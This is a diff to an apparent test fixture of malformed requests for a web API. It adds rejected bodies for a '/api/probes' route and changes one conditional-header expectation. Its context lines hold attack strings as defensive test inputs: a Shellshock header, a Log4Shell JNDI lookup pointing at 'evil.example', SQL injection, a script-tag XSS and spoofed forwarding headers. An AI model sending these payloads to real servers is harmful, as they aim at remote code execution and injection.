@@ -36,7 +36,7 @@ PATHS: Mapping[str, str] = {
     "http://evil.example/": NO_ROUTE, "/cdn-cgi/local/scheduled": NO_ROUTE, "/.well-known/security.txt/..": NO_ROUTE, "/" + "a/" * 5_000: NO_ROUTE,
 }  # fmt: skip
 
-BODY_ROUTES: Final = ("/api/batch", "/api/keys", "/api/watches")
+BODY_ROUTES: Final = ("/api/batch", "/api/keys", "/api/watches", "/api/probes")
 
 
 def _deep(levels: int, inner: str = "1") -> bytes:
@@ -90,6 +90,11 @@ BODIES: Mapping[str, Mapping[bytes, str]] = {
         _watch(chance_line=-0.1): BAD_BODY, _watch(chance_line=1.1): BAD_BODY, _watch(chance_line="0.5"): BAD_BODY, _watch(chance_line=True): BAD_BODY, _watch(chance_line=[]): BAD_BODY, _watch(chance_line=10**400): BAD_BODY, _watch(owner="administrator"): BAD_BODY,
         _watch(secret="x"): BAD_BODY, _watch(id="x"): BAD_BODY, b"{}": BAD_BODY, _watch() + b" " * 16_000: LONG_BODY,
     },
+    "/api/probes": {
+        b"{}": BAD_BODY, b'{"probes": []}': BAD_BODY, b'{"probes": {}}': BAD_BODY, b'{"probes": [1]}': BAD_BODY, b'{"probes": [{}]}': BAD_BODY, b'{"probes": [{"at": "now", "ok": true, "slowest_ms": 1}]}': BAD_BODY,
+        b'{"probes": [{"at": "9999-12-31T23:59:59Z", "ok": true, "slowest_ms": 1}]}': BAD_BODY, b'{"probes": [{"at": "2026-09-22T20:13:20Z", "ok": 1, "slowest_ms": 1}]}': BAD_BODY, b'{"probes": [{"at": "2026-09-22T20:13:20Z", "ok": true, "slowest_ms": -1}]}': BAD_BODY,
+        b'{"probes": [{"at": "2026-09-22T20:13:20Z", "ok": true, "slowest_ms": 1, "version": "<b>"}]}': BAD_BODY, b'{"probes": [{"at": "2026-09-22T20:13:20Z", "ok": true, "slowest_ms": 1, "x": 1}]}': BAD_BODY,
+    },
 }  # fmt: skip
 """By route. Non-finite numbers are read as null; of two equal names the last counts."""
 
@@ -101,7 +106,7 @@ HEADERS: Mapping[tuple[str, str], str] = {
     ("authorization", "Basic eDp5"): GOOD, ("authorization", "Negotiate x"): GOOD, ("authorization", "Bearer " + "x" * 10_000): "401 unauthorized", ("cookie", "x-api-key=wrong"): GOOD, ("cf-connecting-ip", ""): GOOD, ("cf-connecting-ip", "x"): GOOD,
     ("cf-connecting-ip", "999.999.999.999"): GOOD, ("cf-connecting-ip", "::1%eth0"): GOOD, ("cf-connecting-ip", "' OR 1=1"): GOOD, ("cf-connecting-ip", "x" * 5_000): GOOD, ("x-forwarded-for", "127.0.0.1"): GOOD, ("x-forwarded-host", "evil.example"): GOOD,
     ("x-original-url", "/api/keys"): GOOD, ("x-rewrite-url", "/api/keys"): GOOD, ("x-http-method-override", "DELETE"): GOOD, ("content-type", "x"): GOOD, ("content-length", "-1"): GOOD, ("transfer-encoding", "chunked"): GOOD, ("accept", "*/*;q=" + "9" * 500): GOOD,
-    ("accept", "text/html" + ",x" * 2_000): GOOD, ("accept-language", "de;q=NaN"): GOOD, ("if-none-match", '"' * 1_000): GOOD, ("if-none-match", "*"): GOOD, ("if-modified-since", "yesterday"): GOOD, ("range", "bytes=0-18446744073709551615"): GOOD,
+    ("accept", "text/html" + ",x" * 2_000): GOOD, ("accept-language", "de;q=NaN"): GOOD, ("if-none-match", '"' * 1_000): GOOD, ("if-none-match", "*"): "304", ("if-modified-since", "yesterday"): GOOD, ("range", "bytes=0-18446744073709551615"): GOOD,
     ("range", "bytes=" + "0-," * 2_000): GOOD, ("origin", "null"): GOOD, ("origin", "https://evil.example"): GOOD, ("host", "evil.example"): GOOD, ("expect", "100-continue"): GOOD, ("upgrade", "websocket"): GOOD, ("last-event-id", "-1"): GOOD,
     ("user-agent", "() { :; }; echo x"): GOOD, ("user-agent", "${jndi:ldap://evil.example/x}"): GOOD, ("referer", "<script>alert(1)</script>"): GOOD, ("x-request-id", "chosen-by-me"): GOOD, ("server-timing", "x"): GOOD, ("__proto__", "x"): GOOD, ("", "x"): GOOD,
 }  # fmt: skip
